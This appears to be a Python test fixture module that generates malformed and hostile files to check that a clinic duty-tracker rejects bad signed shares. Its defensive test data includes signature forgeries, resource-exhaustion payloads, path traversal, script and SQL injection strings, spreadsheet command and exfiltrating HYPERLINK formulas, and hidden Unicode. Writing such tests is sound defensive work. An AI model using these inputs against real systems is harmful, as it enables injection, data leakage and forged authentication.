"""Files that a steward may be handed instead of a share, by what is wrong; each is made only when asked for."""

import gzip
import json
import pickle
from base64 import b64decode, b64encode, urlsafe_b64encode
from collections.abc import Callable, Sequence
from functools import partial
from typing import Any

from dutytracker.exchange.log_file import write_log_file
from dutytracker.exchange.sealed_share import seal
from dutytracker.exchange.share_file import SHARE
from dutytracker.security.chain import canonical
from dutytracker.security.dsse import key_id, signed_bytes, signer
from tests.builders import a_full_log
from tests.exchange.sealed_shares import ANOTHER, BROKEN, DAMAGED, NEVER_OPENS, SEALED, sealed_around
from tests.exchange.shares import (
    ANOTHER_PRIVATE,
    PRIVATE,
    PUBLIC,
    SOUND,
    Document,
    changed,
    envelope,
    enveloped,
    payload,
    signed,
)

Make = Callable[[], bytes]
Cases = dict[str, Make]

CUT = 97
ORDER = 2**252 + 27742317777372353535851937790883648493
"""The order of the group in which Ed25519 signs."""
BY_ANYBODY = (1).to_bytes(32, "little") + bytes(32)
"""The signature that fits every message under the key `NEUTRAL`."""
NEUTRAL = (1).to_bytes(32, "little")

PAYLOAD = b64decode(envelope()["payload"])
SIGNATURE = b64decode(envelope()["signatures"][0]["sig"])


def spelled(before: bytes, after: bytes) -> Make:
    """The payload with some of its bytes written otherwise, signed again."""
    assert before in PAYLOAD
    return lambda: signed(PAYLOAD.replace(before, after, 1))


def outside(before: bytes, after: bytes) -> Make:
    """The file with some of its bytes written otherwise."""
    assert before in SOUND
    return lambda: SOUND.replace(before, after, 1)


def top(**fields: Any) -> Make:
    """The share with other fields, signed again."""
    return lambda: changed(lambda share: share.update(fields))


def log(**fields: Any) -> Make:
    """The share with other fields of `log`, signed again."""
    return lambda: changed(lambda share: share["log"].update(fields))


def week(**fields: Any) -> Make:
    """The share with other fields in its first week, signed again."""
    return lambda: changed(lambda share: share["weeks"][0].update(fields))


def without(name: str, *, of_week: bool = False) -> Make:
    """The share without a field, signed again."""
    return lambda: changed(lambda share: (share["weeks"][0] if of_week else share).pop(name))


def term(**fields: Any) -> Make:
    """The share with one term in its first week, signed again."""
    rules = {"absence_rule": "pro_rata", "counts_group_preparation": True}
    return week(terms=[{"basis": "hours", "guaranteed_minutes": 420, "reference_minutes": 2400} | rules | fields])


def percent(text: Any) -> Make:
    """The share with a term of so many percent of the appointments, signed again."""
    rules = {"absence_rule": "pro_rata", "counts_group_preparation": True}
    return week(terms=[{"basis": "appointments", "percent": text} | rules])


def days(**fields: Any) -> Make:
    """The share with one day, signed again."""
    return week(days={"2026-03-02": {"by_duty": {"CHART": 90}, "by_placement": {"PROT": 90}} | fields})


def moved(to: str) -> Make:
    """The share with its first day elsewhere, signed again."""
    return lambda: changed(
        lambda share: share["weeks"][0]["days"].update({to: share["weeks"][0]["days"].pop("2026-03-02")})
    )


def wrapped(**fields: Any) -> Make:
    """The envelope with other fields."""
    return lambda: enveloped(lambda file: file.update(fields))


def signature(**fields: Any) -> Make:
    """The envelope with other fields in its signature."""
    return lambda: enveloped(lambda file: file["signatures"][0].update(fields))


def base64(data: bytes) -> str:
    """Standard base64."""
    return b64encode(data).decode()


def handed_in(document: Document, private: bytes, *, sig: bytes | None = None, key: bytes | None = None) -> bytes:
    """The payload under the key of another private half, or under any key with any signature."""
    key = key or public_of(private)
    data = canonical(document | {"key": base64(key)}).encode()
    sig = sig or signer(private)(signed_bytes(SHARE.payload_type, data))
    return json.dumps(
        {
            "payloadType": SHARE.payload_type,
            "payload": base64(data),
            "signatures": [{"keyid": key_id(key), "sig": base64(sig)}],
        }
    ).encode()


def public_of(private: bytes) -> bytes:
    """The raw public half."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    return Ed25519PrivateKey.from_private_bytes(private).public_key().public_bytes_raw()


def with_another_r(sig: bytes) -> bytes:
    """The signature with the same number R written otherwise."""
    return bytes([sig[0] ^ 1]) + sig[1:]


def next_multiple(sig: bytes, add: int) -> bytes:
    """The signature with S plus something that changes nothing for a careless reader."""
    return sig[:32] + (int.from_bytes(sig[32:], "little") + add).to_bytes(32, "little")


def a_map_of(number: int) -> bytes:
    return b'{"payload": {%s}}' % b",".join(b'"%06d":0' % one for one in range(number))


def colliding_keys() -> bytes:
    """Keys that a hash without a secret would throw together: all ways to write blocks that hash alike."""
    blocks = ["Ez", "FY"]
    keys = ["".join(blocks[number >> bit & 1] for bit in range(15)) for number in range(2**15)]
    return signed(canonical(payload() | dict.fromkeys(keys, 0)).encode())


INVISIBLE = {
    "a right-to-left override": "\u202e",
    "an isolate": "\u2067",
    "a zero-width space": "\u200b",
    "a zero-width joiner": "\u200d",
    "a byte order mark": "\ufeff",
    "a soft hyphen": "\u00ad",
    "a tag character": "\U000e0041",
    "a line separator": "\u2028",
    "a line end": "\n",
    "a NUL": "\x00",
    "an ANSI escape": "\x1b[2J\x1b]0;x\x07",
    "a control of the second set": "\x9b2J",
}

HOSTILE: dict[str, Cases] = {
    "of another kind": {
        "nothing at all": lambda: b"",
        "one NUL": lambda: b"\x00",
        "spaces": lambda: b"  \n" * 1000,
        "a photograph": lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(range(256)),
        "a ZIP, as of an office program": lambda: b"PK\x03\x04" + bytes(64),
        "a PDF": lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "an SQLite database": lambda: b"SQLite format 3\x00" + bytes(4080),
        "a compressed share": lambda: gzip.compress(SOUND),
        "a pickled share": lambda: pickle.dumps(SOUND),
        "a program": lambda: b"\x7fELF\x02\x01\x01" + bytes(57),
        "a table": lambda: b"week,minutes\r\n2026-03-01,90\r\n",
        "a page": lambda: b"<html><script>alert(1)</script></html>",
        "a page of typst": lambda: b'#read("/etc/passwd")',
        "only an array": lambda: b"[" + SOUND + b"]",
        "only a number": lambda: b"1",
        "only a text": lambda: b'"dutytracker-share"',
        "only null": lambda: b"null",
        "an object of nothing": lambda: b"{}",
        "a whole log": lambda: write_log_file(a_full_log()),
        "a whole log with letters beyond ASCII": lambda: write_log_file(a_full_log()).replace(
            b"two calls", b"\xc3\xa9"
        ),
        "a receipt": wrapped(payloadType="application/vnd.dutytracker.receipt+json"),
        "a unit file": wrapped(payloadType="application/vnd.dutytracker.unit+json"),
        "a signed text": wrapped(payloadType="text/plain"),
        "a payload without an envelope": lambda: PAYLOAD,
        "an envelope in an envelope": lambda: signed(SOUND),
        "another format, signed": top(format="dutytracker-log"),
        "no format, signed": without("format"),
        "a list, signed": lambda: signed([]),
        "null, signed": lambda: signed(b"null"),
        "bytes, signed": lambda: signed(bytes(range(256))),
        "two files in one": lambda: SOUND + SOUND,
        "a share after a picture": lambda: b"\x89PNG\r\n\x1a\n" + SOUND,
        "a comment before": lambda: b"// mine\n" + SOUND,
    },
    "too deep": {
        "thirteen lists": lambda: b"[" * 13 + b"]" * 13,
        "a hundred thousand lists": lambda: b"[" * 100_000 + b"]" * 100_000,
        "lists without an end": lambda: b"[" * 16_000_000,
        "objects without an end": lambda: b'{"a":' * 1_000_000,
        "lists in the payload": lambda: signed(b"[" * 100_000 + b"]" * 100_000),
        "lists in a field": top(clinic=json.loads("[" * 11 + "]" * 11)),
    },
    "too much": {
        "eight million items": lambda: b"[" + b"1," * 8_000_000 + b"1]",
        "three million items in the payload": lambda: signed(b"[" + b"1," * 3_000_000 + b"1]"),
        "objects by the million": lambda: b"[" + b",".join([b'{"":0}'] * 666_000) + b"]",
        "objects by the million in the payload": lambda: signed(b"[" + b",".join([b'{"":0}'] * 666_000) + b"]"),
        "empty texts": lambda: b"[" + b'"",' * 5_500_000 + b'""]',
        "texts by the million": lambda: b"[" + b",".join(b'"%06d"' % n for n in range(1_750_000)) + b"]",
        "texts by the million in the payload": lambda: signed(
            b"[" + b",".join(b'"%06d"' % n for n in range(900_000)) + b"]"
        ),
        "keys by the million": lambda: a_map_of(1_400_000),
        "keys by the million in the payload": lambda: signed(a_map_of(790_000)),
        "keys that would fall together": colliding_keys,
        "sixteen million spaces": lambda: b" " * 16 * 2**20,
        "a payload of sixteen million letters": wrapped(payload="A" * 16_000_000),
        "a text of sixteen million letters": lambda: b'{"payload": 1, "a": "' + b"a" * 16_000_000 + b'"}',
        "a text of four bytes a letter": lambda: '{"payload": 1, "a": "🗎'.encode() + b"a" * 16_000_000 + b'"}',
        "a text of four bytes a letter in the payload": lambda: signed(
            '{"key": "🗎'.encode() + b"a" * 8_300_000 + b'"}'
        ),
        "a text of escapes": lambda: b'{"payload": 1, "a": "' + b"\\u0041" * 2_700_000 + b'"}',
        "a text of pairs of escapes": lambda: b'{"payload": 1, "a": "' + b"\\ud83d\\uddce" * 1_390_000 + b'"}',
        "a text of backslashes": lambda: b'{"payload": 1, "a": "' + b"\\\\" * 8_000_000 + b'"}',
        "a text of quotation marks": lambda: b'{"payload": 1, "a": "' + b'\\"' * 8_000_000 + b'"}',
        "minus signs": lambda: b"-" * 16_000_000,
        "one week four thousand times": lambda: signed({**payload(), "weeks": payload()["weeks"][:1] * 4_000}),
        "a hundred thousand digests": top(since={"seq": 0, "head": "00" * 32, "digests": ["00" * 32] * 100_000}),
        "ten thousand terms": lambda: changed(
            lambda share: share["weeks"][0].update(terms=share["weeks"][0]["terms"] * 10_000)
        ),
        "a clinic of 121 letters": top(clinic="N" * 121),
        "a program of 121 letters": top(program="N" * 121),
        "a clinic of a megabyte": top(clinic="N" * 1_000_000),
    },
    "a key twice": {
        "in the envelope": outside(b'"payloadType"', b'"payloadType":"","payloadType"'),
        "in the envelope, in other letters": outside(b'"payloadType"', b'"\\u0070ayloadType":"","payloadType"'),
        "in the signature": outside(b'"keyid"', b'"keyid":"","keyid"'),
        "in the payload": spelled(b'"version":1', b'"version":1,"version":1'),
        "in the payload, in other letters": spelled(b'"version":1', b'"version":1,"\\u0076ersion":1'),
        "in a week": spelled(b'"clearing":30', b'"clearing":30,"clearing":30'),
        "in a map of minutes": spelled(b'"by_duty":{"CHART":90', b'"by_duty":{"CHART":90,"CHART":90'),
        "a day of both letters": spelled(
            b'"2026-03-02":{', b'"2026-03-0\\u0032":{"by_duty":{},"by_placement":{}},"2026-03-02":{'
        ),
    },
    "no whole number": {
        "NaN": spelled(b'"clearing":30', b'"clearing":NaN'),
        "Infinity": spelled(b'"clearing":30', b'"clearing":Infinity'),
        "minus Infinity": spelled(b'"clearing":30', b'"clearing":-Infinity'),
        "a decimal": spelled(b'"clearing":30', b'"clearing":30.0'),
        "an exponent": spelled(b'"clearing":30', b'"clearing":3e1'),
        "an exponent without end": spelled(b'"clearing":30', b'"clearing":1e999999999'),
        "a decimal minus nothing": spelled(b'"clearing":30', b'"clearing":-0.0'),
        "a leading zero": spelled(b'"clearing":30', b'"clearing":030'),
        "a plus sign": spelled(b'"clearing":30', b'"clearing":+30'),
        "a hexadecimal number": spelled(b'"clearing":30', b'"clearing":0x1e'),
        "a number with an underscore": spelled(b'"clearing":30', b'"clearing":3_0'),
        "sixteen digits": spelled(b'"seq":41', b'"seq":1000000000000000'),
        "a million digits": spelled(b'"seq":41', b'"seq":' + b"9" * 1_000_000),
        "digits of the payload outside": lambda: b'{"payload":' + b"9" * 16_000_000 + b"}",
        "text for a number": week(clearing="30"),
        "true for a number": week(clearing=True),
        "null for a number": week(clearing=None),
        "a list for a number": week(clearing=[30]),
    },
    "in another encoding": {
        "UTF-16": lambda: SOUND.decode().encode("utf-16"),
        "UTF-16 without a mark": lambda: SOUND.decode().encode("utf-16-le"),
        "UTF-32": lambda: SOUND.decode().encode("utf-32"),
        "EBCDIC": lambda: SOUND.decode().encode("cp500"),
        "a byte order mark": lambda: b"\xef\xbb\xbf" + SOUND,
        "a byte order mark in the payload": lambda: signed(b"\xef\xbb\xbf" + PAYLOAD),
        "UTF-16 in the payload": lambda: signed(PAYLOAD.decode().encode("utf-16")),
        "Latin-1": spelled(b'"North"', '"Nörd"'.encode("latin-1")),
        "Latin-1 outside": outside(b'"payload"', '"päyload"'.encode("latin-1")),
        "an overlong letter": spelled(b'"North"', b'"N\xc1\xaf"'),
        "an overlong NUL": spelled(b'"North"', b'"N\xc0\x80"'),
        "a surrogate": spelled(b'"North"', b'"N\xed\xa0\x80"'),
        "a letter beyond Unicode": spelled(b'"North"', b'"N\xf4\x90\x80\x80"'),
        "a letter cut off": spelled(b'"North"', b'"N\xe2\x82"'),
        "an escaped lone surrogate": spelled(b'"North"', b'"N\\ud800"'),
        "escaped surrogates turned round": spelled(b'"North"', b'"N\\udc00\\ud800"'),
        "an escaped NUL": spelled(b'"North"', b'"N\\u0000"'),
        "a NUL in a text": spelled(b'"North"', b'"N\x00"'),
        "NULs after": lambda: SOUND + bytes(512),
        "an unknown escape": spelled(b'"North"', b'"N\\x41"'),
        "single quotation marks": lambda: SOUND.replace(b'"', b"'"),
    },
    "text that hides something": {
        **{f"{what} in the clinic": top(clinic=f"Nor{text}th") for what, text in INVISIBLE.items()},
        **{f"{what} in the program": top(program=f"Nor{text}th") for what, text in INVISIBLE.items()},
        **{f"{what} in the member code": top(member=f"K7QF-2M9X{text}") for what, text in INVISIBLE.items()},
        **{
            f"{what} in the version": top(version=2, format=f"dutytracker-share{text}")
            for what, text in INVISIBLE.items()
        },
        "letters that are not composed in the clinic": top(clinic="re\u0301sume\u0301"),
        "letters that are not composed in the program": top(program="re\u0301sume\u0301"),
        "a compatibility letter that composes": top(clinic="\u212b"),
        "marks in the wrong order": top(clinic="a\u0301\u0323"),
        "a field with a zero-width space": top(**{"cli\u200bnic": "North"}),
        "a field of the envelope with a zero-width space": wrapped(**{"pay\u200bload": ""}),
        "formulas with a zero-width space": top(formulas="2\u200b"),
        "an override in a percentage": percent("1\u202e8"),
        "an escape in a code": week(by_duty={"\x1b[31mCALL": 90}),
    },
    "of another version": {
        "version 2": top(version=2),
        "version 2 with new fields": top(version=2, tally={}),
        "version of fifteen digits": top(version=999_999_999_999_999),
        "version 0": top(version=0),
        "version minus 1": top(version=-1),
        "version as text": top(version="1"),
        "version true": top(version=True),
        "version null": top(version=None),
        "no version": without("version"),
        "formulas 2": top(formulas=2),
        "formulas 0": top(formulas=0),
        "formulas minus 1": top(formulas=-1),
        "formulas as text": top(formulas="1"),
        "formulas as a list": top(formulas=[1]),
        "no formulas": without("formulas"),
    },
    "cut": {f"after {length} bytes": lambda length=length: SOUND[:length] for length in range(CUT, len(SOUND), CUT)},
    "wrongly signed": {
        "no signatures": lambda: enveloped(lambda file: file.pop("signatures")),
        "no signature": wrapped(signatures=[]),
        "null for a signature": wrapped(signatures=[None]),
        "an object for signatures": wrapped(signatures={"keyid": key_id(PUBLIC), "sig": base64(SIGNATURE)}),
        "two signatures": lambda: enveloped(lambda file: file.update(signatures=file["signatures"] * 2)),
        "ten thousand signatures": lambda: enveloped(lambda file: file.update(signatures=file["signatures"] * 10_000)),
        "a right and a wrong one": lambda: enveloped(
            lambda file: file["signatures"].append({"keyid": "00" * 32, "sig": base64(bytes(64))})
        ),
        "a signature of another key": lambda: signed(payload(), private=ANOTHER_PRIVATE),
        "a signature and a name of another key": lambda: enveloped(
            lambda file: file.update(
                signatures=[
                    {
                        "keyid": key_id(public_of(ANOTHER_PRIVATE)),
                        "sig": base64(signer(ANOTHER_PRIVATE)(signed_bytes(SHARE.payload_type, PAYLOAD))),
                    }
                ]
            )
        ),
        "the signature of another share": lambda: enveloped(
            lambda file: file.update(payload=json.loads(top(clinic="South")())["payload"])
        ),
        "the payload written otherwise": lambda: enveloped(
            lambda file: file.update(payload=base64(json.dumps(payload()).encode()))
        ),
        "the key of another in the payload": top(key=base64(public_of(ANOTHER_PRIVATE))),
        "a signature for another kind of file": lambda: json.dumps(
            json.loads(signed(payload(), payload_type="application/vnd.dutytracker.receipt+json"))
            | {"payloadType": SHARE.payload_type}
        ).encode(),
        "a signature of the bare payload": signature(sig=base64(signer(PRIVATE)(PAYLOAD))),
        "a signature of nothing": signature(sig=base64(bytes(64))),
        "no signature text": signature(sig=""),
        "a short signature": signature(sig=base64(SIGNATURE[:-1])),
        "a long signature": signature(sig=base64(SIGNATURE + b"\0")),
        "null for the signature text": signature(sig=None),
        "another name of the key": signature(keyid="ab" * 32),
        "the name of the key in capitals": signature(keyid=key_id(PUBLIC).upper()),
        "no name of the key": lambda: enveloped(lambda file: file["signatures"][0].pop("keyid")),
        "an empty name of the key": signature(keyid=""),
        "the name of the key with a line end": signature(keyid=key_id(PUBLIC) + "\n"),
        "an unknown field beside the signature": signature(alg="none"),
        "an unknown field of the envelope": wrapped(alg="none"),
        "a signature with S plus the order": signature(sig=base64(next_multiple(SIGNATURE, ORDER))),
        "a signature with S plus eight orders": signature(sig=base64(next_multiple(SIGNATURE, 8 * ORDER))),
        "a signature with its highest bit set": signature(sig=base64(next_multiple(SIGNATURE, 2**255))),
        "a signature with another R": signature(sig=base64(with_another_r(SIGNATURE))),
        "a key for which anybody signs": lambda: handed_in(payload(), PRIVATE, key=NEUTRAL, sig=BY_ANYBODY),
        "such a key in another form": lambda: handed_in(
            payload(), PRIVATE, key=(2**255 - 18).to_bytes(32, "little"), sig=BY_ANYBODY
        ),
        "a key that is no point": lambda: handed_in(payload(), PRIVATE, key=(2).to_bytes(32, "little"), sig=BY_ANYBODY),
        "a key of nothing": lambda: handed_in(payload(), PRIVATE, key=bytes(32), sig=bytes(64)),
        "a key of 31 bytes": top(key=base64(PUBLIC[:-1])),
        "a key of 33 bytes": top(key=base64(PUBLIC + b"\0")),
        "no key": without("key"),
        "null for a key": top(key=None),
        "a list for a key": top(key=[PUBLIC.hex()]),
        "a key as hexadecimal digits": top(key=PUBLIC.hex()),
    },
    "in another base64": {
        "with the letters for addresses": wrapped(payload=urlsafe_b64encode(b"\xff\xfe\xfd" + PAYLOAD).decode()),
        "without padding": signature(sig=base64(SIGNATURE).rstrip("=")),
        "with more padding": signature(sig=base64(SIGNATURE) + "=="),
        "with bits left over": signature(sig=base64(SIGNATURE)[:-3] + "h=="),
        "with line ends": lambda: enveloped(lambda file: file.update(payload=file["payload"].replace("e", "e\n", 1))),
        "with spaces": lambda: enveloped(lambda file: file.update(payload=" " + file["payload"])),
        "with something after the padding": signature(sig=base64(SIGNATURE) + "AAAA"),
        "empty": wrapped(payload=""),
        "that is none": wrapped(payload="%%%%"),
        "with letters beyond ASCII": wrapped(payload="é"),
        "as a number": wrapped(payload=7),
        "as a list": wrapped(payload=[base64(PAYLOAD)]),
        "as null": wrapped(payload=None),
        "of a key, without padding": top(key=base64(PUBLIC).rstrip("=")),
        "of a key, for addresses": top(key=urlsafe_b64encode(PUBLIC[:-1] + b"\xff").decode()),
    },
    "at a day that cannot be": {
        "February 30": week(week="2026-02-30"),
        "month 13": week(week="2026-13-01"),
        "year 0": week(week="0000-01-02"),
        "year 1999": week(week="1999-12-26"),
        "year 2200": week(week="2200-01-05"),
        "year 9999": week(week="9999-12-26"),
        "year 12026": week(week="12026-03-01"),
        "no hyphens": week(week="20260301"),
        "a week date": week(week="2026-W09-7"),
        "with a time": week(week="2026-03-01T00:00:00Z"),
        "the American way": week(week="03/01/2026"),
        "Arabic digits": week(week="٢٠٢٦-٠٣-٠١"),
        "wide digits": week(week="２０２６-03-01"),
        "a space after": week(week="2026-03-01 "),
        "a number": week(week=20260301),
        "a week from a Monday": week(week="2026-03-02"),
        "weeks from another day than it says": top(week_starts_on="monday"),
        "an unknown first day": top(week_starts_on="someday"),
        "a first week on a wrong day": log(first_week="2026-03-02"),
        "a first week that cannot be": log(first_week="2026-02-30"),
        "a day that cannot be": moved("2026-02-31"),
        "a day of another week": moved("2026-03-09"),
        "made never": top(made_at=None),
        "made yesterday": top(made_at="yesterday"),
        "made without an offset": top(made_at="2026-03-08T17:00:00"),
        "made at 25 o'clock": top(made_at="2026-03-08T25:00:00Z"),
        "made in 1970": top(made_at="1970-01-01T00:00:00Z"),
        "made in year 9999": top(made_at="9999-12-31T23:59:59-23:59"),
        "made in year 1": top(made_at="0001-01-01T00:00:00+23:59"),
    },
    "with weeks that cannot be": {
        "a week twice": lambda: changed(lambda share: share["weeks"].append(share["weeks"][0])),
        "a week twice, told otherwise": lambda: changed(
            lambda share: share["weeks"].append(share["weeks"][1] | {"entries": 1})
        ),
        "null for a week": top(weeks=[None]),
        "null for weeks": top(weeks=None),
        "an object for weeks": top(weeks={}),
        "a text for a week": top(weeks=["2026-03-01"]),
        "no weeks": without("weeks"),
    },
    "with minutes out of range": {
        "more scheduled than a week": week(scheduled=10_081),
        "a pattern of more than a week": week(pattern=10_081),
        "less than nothing scheduled": week(scheduled=-1),
        "less than nothing of a duty": week(by_duty={"CALL": -30, "CHART": 120}),
        "more of a duty than a week": week(by_duty={"CHART": 10_081}),
        "less than nothing lost": week(eroded_by={"appointment_booked": -60}),
        "fewer than no entries": week(entries=-1),
        "overlap of less than nothing": week(overlap=-1),
        "protected less than nothing": week(protected=-1),
        "less than nothing cleared": week(cleared={"items": -1, "estimate": 0, "actual": 0}),
        "more cleared than a week": week(cleared={"items": 1, "estimate": 10_081, "actual": 0}),
        "more appointments than a week": week(appointments={"booked": 10_081, "held": 0, "no_show": 0}),
        "fewer than no weeks logged": log(weeks_logged=-1),
        "more weeks logged than two centuries have": log(weeks_logged=11_000),
        "less than no length of the log": log(seq=-1),
    },
    "with sums that differ": {
        "by place": week(by_placement={"PROT": 60}),
        "by time of recording": week(provenance={"same_day": 89}),
        "by duty": week(by_duty={"CHART": 91}),
        "cleared more than logged": week(clearing=91),
        "untimed more than logged": week(untimed=91),
        "closed more than scheduled": week(closed=2400, closed_late=1),
        "scheduled more than the pattern": week(closed=0, pattern=1),
        "lost more than protected": week(eroded_by={"other": 421}),
        "lost without anything protected": week(protected=None),
        "undone late more than undone": week(undone_late=61),
        "multiples of 15 more than entries": week(entries=2, multiples_of_15=3),
        "days less than their week": week(days={}),
        "a day by place and by duty": days(by_placement={"PROT": 60}),
        "days otherwise than their week": days(),
    },
    "with a null that must not be": {
        "no contract, but known": week(contracted=None, contracted_fixed=None),
        "a contract, but unknown": week(contract_known=False),
        "only the fixed contract": week(contracted=None),
        "only the contract": week(contracted_fixed=None),
        "no log": top(log=None),
        "no member": top(member=None),
        "no terms": week(terms=None),
        "no minutes by duty": week(by_duty=None),
        "days that are null": week(days=None),
        "no answer on own time": top(own_time_included=None),
        "no answer on undone work": week(undone_answered=None),
        "appointments of nothing": week(appointments={}),
        "no `since`": without("since"),
        "no head": log(head=None),
    },
    "with a term that cannot be": {
        "more guaranteed than the reference": term(guaranteed_minutes=2401),
        "guaranteed less than nothing": term(guaranteed_minutes=-1),
        "a reference of nothing": term(reference_minutes=0),
        "a reference over a week": term(reference_minutes=10_081),
        "guaranteed of fifteen digits": term(guaranteed_minutes=999_999_999_999_999),
        "fields of another basis": term(percent="18"),
        "an unknown basis": term(basis="handshake"),
        "an unknown absence rule": term(absence_rule="never"),
        "a label": term(label="our contract"),
        "no basis": week(terms=[{"absence_rule": "pro_rata", "counts_group_preparation": True}]),
        "no rule": week(terms=[{"basis": "appointments", "percent": "18"}]),
        "meetings left open": term(basis="percent", percent="18", base="scheduled_less_meetings"),
        **{
            f"{text[:20]!a} percent": percent(text)
            for text in ("1e9", "-5", "−5", "+18", "०", "٥", "１８", "18%", "1/5", "17,5")
        },
        **{
            f"{text[:20]!a} percent ": percent(text)
            for text in ("nan", "Infinity", "", " 18", "1_8", "0x12", "100.1", "9" * 5000)
        },
        "a percentage of five thousand decimals": percent("1." + "0" * 5000),
        "a percentage as a number": percent(18),
    },
    "with a code nobody knows": {
        "of a duty": week(by_duty={"NAP": 90}),
        "of a duty in small letters": week(by_duty={"chart": 90}),
        "of a duty in Cyrillic letters": week(by_duty={"СНАRТ": 90}),
        "of a duty with a space": week(by_duty={"CHART ": 90}),
        "of a place": week(by_placement={"HOME": 90}),
        "of a place for shares without own time": week(by_placement={"OUT": 90}),
        "of a time of recording": week(provenance={"dreamt": 90}),
        "of a reason": week(eroded_by={"bored": 60}),
        "of undone work": week(undone_by_duty={"NAP": 60}),
        "of a day": days(by_duty={"NAP": 90}),
        "of a field": top(name="Anna"),
        "of a field of a week": week(notes="met with J. D."),
        "of a field of a day": days(start="14:02"),
        "of a Python attribute": week(__class__="x"),
        "of nothing": week(by_duty={"": 90}),
    },
    "with a name that is none": {
        "a person": top(member="Jane Doe"),
        "a year of birth": top(member="ANNA-1986"),
        "a zero for an O": top(member="K7QF-2M90"),
        "a one for an I": top(member="K7QF-2M91"),
        "small letters": top(member="k7qf-2m9x"),
        "Cyrillic letters": top(member="К7QF-2М9Х"),
        "wide letters": top(member="Ｋ７ＱＦ-２Ｍ９Ｘ"),
        "another hyphen": top(member="K7QF‐2M9X"),
        "nothing": top(member=""),
        "a path": top(member="../../etc/passwd"),
        "markup": top(member="<script>alert(1)</script>"),
        "a number": top(member=7),
        "a number for a clinic": top(clinic=7),
        "a list for a program": top(program=[]),
    },
    "sealed": {
        **{f"with {what}": partial(bytes, data) for what, data in NEVER_OPENS.items()},
        **{f"damaged {what}": partial(bytes, data) for what, data in DAMAGED.items()},
        **{f"broken {what}": partial(bytes, data) for what, (data, _) in BROKEN.items()},
        "to another key": lambda: seal(SOUND, ANOTHER.public),
        "in a sealed one": lambda: sealed_around(SEALED),
        "around a whole log": lambda: sealed_around(write_log_file(a_full_log())),
        "around nothing": lambda: sealed_around(b""),
        "around spaces alone": lambda: sealed_around(b" " * 11 * 2**20),
        "around eight million items": lambda: sealed_around(b"[" + b"1," * 5_500_000 + b"1]"),
        "around three million items in the payload": lambda: sealed_around(signed(b"[" + b"1," * 3_000_000 + b"1]")),
        "around keys by the million in the payload": lambda: sealed_around(signed(a_map_of(790_000))),
        "around a share that is cut": lambda: sealed_around(SOUND[:-1]),
        "around an altered share": lambda: sealed_around(SOUND.replace(b"A", b"B", 1)),
        "of sixteen million letters": lambda: SEALED[:-3] + b"A" * 15_900_000 + SEALED[-3:],
    },
    "that does not continue its record": {
        "digests that lead elsewhere": top(since={"seq": 40, "head": "00" * 32, "digests": ["00" * 32]}),
        "digests too few": top(since={"seq": 0, "head": "00" * 32, "digests": []}),
        "a head of other letters": log(head="5A" * 32),
        "a head too short": log(head="5a" * 31),
        "a digest too long": top(since={"seq": 40, "head": "00" * 32, "digests": ["00" * 33]}),
        "a head with a line end": log(head="5a" * 32 + "\n"),
        "a text for digests": top(since={"seq": 40, "head": "00" * 32, "digests": "00" * 32}),
    },
}
"""What is wrong → how → the file. None of them may be read."""

TEXTS = {
    "a link of a spreadsheet": '=HYPERLINK("https://example.org/"&A1,"North")',
    "a command of a spreadsheet": "=cmd|' /C calc'!A0",
    "a plus sign": "+1+1",
    "a minus sign": "-2+3",
    "an at sign": "@SUM(A1:A9)",
    "a wide equals sign": "＝1+1",
    "a script": "<script>alert(1)</script>",
    "an image": '<img src="file:///etc/passwd">',
    "rich text": "<b>North</b>&amp;<br>",
    "an import of typst": '#import "/etc/passwd": *',
    "a file of typst": '#read("/etc/passwd")',
    "markup of typst": "*North* _South_ `raw` $x^2$ @label <label> = Title",
    "an end of a text": '"); panic("',
    "a place for a value": "{file} {0} {why} %s %n",
    "a statement": "'; DROP TABLE members; --",
    "backslashes": "North\\u202e\\n\\x1b[2J",
    "a path": "../../etc/passwd",
    "a name that Windows keeps": "CON",
    "letters from right to left": "צפון",
    "signs above letters": "N" + "\u0335" * 60,
    "pictures": "🏥" * 60,
    "a letter of nobody": "\ue000\u0378",
    "spaces": "North\u00a0\u3000 Clinic",
}
"""Odd texts that may stand in `clinic` and `program`, and must stay what they are."""

HARMLESS: Cases = {
    "minus nothing": spelled(b'"overlap":0', b'"overlap":-0'),
    "exact zeros": week(overlap=0, undone_by_duty={"PLAN": 0, **payload()["weeks"][0]["undone_by_duty"]}),
    "escapes where none were needed": spelled(b'"North"', b'"\\u004eorth"'),
    "white space": lambda: json.dumps(envelope(), indent=2).encode() + b"\r\n",
    **{f"a clinic with {what}": top(clinic=text) for what, text in TEXTS.items()},
    **{f"a program with {what}": top(program=text) for what, text in TEXTS.items()},
}
"""Odd, and sound."""


def unit_of(clinics: Sequence[str], **fields: Any) -> list[bytes]:
    """The shares of a member of each clinic: each has a code and a key of their own, and two weeks to compare."""
    first = payload()["weeks"][0]
    del first["days"]
    weeks = [first, first | {"week": "2026-03-08"}]
    return [
        handed_in(
            payload() | {"weeks": weeks, "member": a_code(number), "clinic": clinic} | fields, bytes([number]) * 32
        )
        for number, clinic in enumerate(clinics, start=1)
    ]


def a_code(number: int) -> str:
    """The member code with that number, below 1,024."""
    letters = "23456789ABCDEFGHJKLMNPQRSTUVWXYZ"
    return f"ABCD-{letters[number % 32]}{letters[number // 32]}ZZ"
